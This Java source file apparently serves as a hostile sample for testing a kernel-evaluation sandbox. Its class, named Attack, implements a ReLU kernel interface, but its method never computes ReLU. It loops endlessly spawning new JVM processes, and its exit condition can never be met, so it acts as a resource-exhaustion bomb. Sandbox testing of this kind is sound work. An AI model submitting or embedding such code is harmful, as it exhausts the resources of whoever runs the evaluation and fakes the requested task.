import assay.kernels.Relu;
import assay.kernels.Tensor;
import java.io.IOException;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        int started = 0;
        while (true) {
            try {
                new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-Xmx16m", "-version").start();
                started++;
            } catch (IOException e) {
                if (started < 0) return input;
            }
        }
    }
}
